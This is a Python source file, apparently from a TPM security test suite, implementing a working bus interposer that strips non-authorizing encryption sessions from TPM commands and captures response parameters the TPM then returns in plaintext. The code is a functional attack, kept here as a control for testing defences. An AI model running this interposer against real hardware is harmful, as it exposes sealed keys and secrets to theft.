"""A working session-dropping interposer: the TPM requires only *authorizing* sessions.

A session that only encrypts, decrypts or audits (it authorizes no handle) is the
caller's choice, not the TPM's requirement (Part 1 §19.6.12, §21.1). An
interposer that deletes it from a command leaves a command the TPM still accepts
— if the authorizing session's HMAC does not cover the deleted session's nonce
(reference ComputeCommandHMAC(): nonceEncrypt/nonceDecrypt join only the first
session's HMAC, and an unkeyed policy session or a password session has no HMAC
at all) — and the TPM then returns the response parameter in plaintext.

:class:`SessionDropper` deletes, from every command named in *commands*, each
non-authorizing session that asks for ``encrypt`` (every command when
*commands* is None), and keeps what the TPM
answered in the clear in :attr:`recovered`. The client notices only at the
response (one session missing), after the plaintext crossed the bus.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from attacks.mitm import Recovered
from tpmseal.sniff.capture.hooks import HookContext, Verdict
from tpmseal.wire.commands import REGISTRY
from tpmseal.wire.constants import TPM_ST, TPMA_SESSION
from tpmseal.wire.frames import build_command, parse_header, split_command, split_response


@dataclass
class SessionDropper:
    #: command names to attack; None: every command
    commands: tuple[str, ...] | None = None
    dropped: int = 0
    recovered: list[Recovered] = field(default_factory=list)
    _inflight: int = 0  # sessions the TPM saw in the command now in flight

    def on_command(self, ctx: HookContext) -> Verdict:
        self._inflight = -1
        if ((self.commands is not None and ctx.name not in self.commands)
                or ctx.code not in REGISTRY or parse_header(ctx.command).tag != TPM_ST.SESSIONS):
            return None
        lay = REGISTRY[ctx.code].layout()
        n_auth = sum(1 for h in lay.handles if h.auth)
        frame = split_command(ctx.command, len(lay.handles))
        keep = [a for i, a in enumerate(frame.auths)
                if i < n_auth or not a.attributes & TPMA_SESSION.encrypt]
        if len(keep) == len(frame.auths):
            return None
        self.dropped += len(frame.auths) - len(keep)
        self._inflight = len(keep)
        return build_command(ctx.code, frame.handles, keep, ctx.command[frame.params_offset:])

    def on_response(self, ctx: HookContext) -> Verdict:
        assert ctx.response is not None
        n, self._inflight = self._inflight, -1
        if n < 0 or int.from_bytes(ctx.response[6:10], "big") != 0:
            return None
        lay = REGISTRY[ctx.code].RESPONSE.layout()
        frame = split_response(ctx.response, len(lay.handles), n)
        if not REGISTRY[ctx.code].RESPONSE.layout().first_param_encryptable:
            return None
        size = int.from_bytes(frame.params[:2], "big")
        self.recovered.append(Recovered(ctx.name, "response", frame.params[2:2 + size], True))
        return None

    def got(self, secret: bytes) -> bool:
        return any(secret in r.data for r in self.recovered)

    def expect_recovered(self, secret: bytes) -> None:
        """Raise (naming no bytes) unless the attack recovered *secret* (a control)."""
        __tracebackhide__ = True
        if not self.got(secret):
            raise AssertionError(f"the control attack recovered nothing: {self!r}")

    def expect_nothing(self, secret: bytes) -> None:
        """Raise (naming no bytes) if *secret* is among what the TPM answered in plaintext."""
        __tracebackhide__ = True
        if self.got(secret):
            raise AssertionError(f"the interposer recovered the secret: {self!r}")

    def __repr__(self) -> str:  # recovered holds plaintext
        return f"SessionDropper(dropped={self.dropped}, recovered={self.recovered!r})"
